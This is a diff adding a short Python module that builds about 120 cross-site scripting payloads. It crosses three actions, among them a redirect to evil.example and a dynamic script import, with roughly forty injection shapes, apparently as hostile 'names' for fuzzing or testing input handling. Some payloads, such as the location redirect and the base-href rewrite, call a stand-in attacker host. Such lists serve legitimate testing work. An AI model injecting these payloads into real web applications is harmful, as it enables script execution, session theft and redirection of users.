@@ -1,0 +1,48 @@
+"""What somebody may be called who wants more than to be called."""
+
+import itertools
+
+DOES = ["alert(1)", "import('/static/desk/end.js')", "location='//evil.example'"]
+SHAPES = [
+    "<script>{}</script>",
+    "<ScRiPt>{}</sCrIpT>",
+    "</script><script>{}</script>",
+    "<img src=x onerror={}>",
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<body onload={}>",
+    "<iframe srcdoc='<script>{}</script>'>",
+    '"><script>{}</script>',
+    "'><script>{}</script>",
+    '" onmouseover="{}" x="',
+    "' onfocus='{}' autofocus='",
+    "` onclick=`{}`",
+    "javascript:{}",
+    "<a href=javascript:{}>call</a>",
+    "<form action=javascript:{}><button>",
+    "<math><mtext><img src=x onerror={}>",
+    "<template><img src=x onerror={}></template>",
+    "<details open ontoggle={}>",
+    "<input onfocus={} autofocus>",
+    "<video><source onerror={}></video>",
+    "<marquee onstart={}>",
+    "<object data='data:text/html,<script>{}</script>'>",
+    "<link rel=stylesheet href=javascript:{}>",
+    "<style>@import 'javascript:{}'</style>",
+    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
+    "<base href='//evil.example/'>{}",
+    "<!--><img src=x onerror={}>",
+    "<![CDATA[<script>{}</script>]]>",
+    "</title><script>{}</script>",
+    "</textarea><script>{}</script>",
+    "</noscript><img src=x onerror={}>",
+    "${{{}}}",
+    "{{{{{}}}}}",
+    "{{% include '{}' %}}",
+    "&lt;script&gt;{}&lt;/script&gt;",
+    "\u202e<script>{}</script>",
+    "\u0000<script>{}</script>",
+    "<\u200bscript>{}</script>",
+    "</pre><b onclick={}>",
+]
+NAMES = [shape.format(does) for does, shape in itertools.product(DOES, SHAPES)]
